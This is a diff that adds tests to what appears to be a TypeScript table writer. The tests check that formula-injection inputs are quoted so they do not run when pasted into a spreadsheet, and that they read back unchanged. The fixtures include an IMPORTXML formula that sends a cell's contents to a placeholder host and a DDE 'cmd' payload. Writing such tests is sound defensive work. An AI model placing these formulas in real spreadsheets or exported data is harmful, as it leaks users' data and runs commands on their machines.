@@ -27,6 +27,19 @@ test.each([
   expect(parseTable(text)).toEqual(rows);
 });
 
+test.each([
+  ['=IMPORTXML("http://e.example/"&B1)', `"'=IMPORTXML(""http://e.example/""&B1)"`],
+  ["@SUM(1)", "'@SUM(1)"],
+  ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
+  ["-1+1", "'-1+1"],
+  ["-3", "-3"],
+  ["34 1/2", "34 1/2"],
+  ["a=b", "a=b"],
+] as const)("%j runs nothing where it is pasted, and reads back", (text, pasted) => {
+  expect(writeTable([[text]])).toBe(pasted);
+  expect(parseTable(pasted)).toEqual([[text]]);
+});
+
 test("what is written reads back", () => {
   const table = [
     ["PS-ER", '34 1/2" × 15', "12,50"],
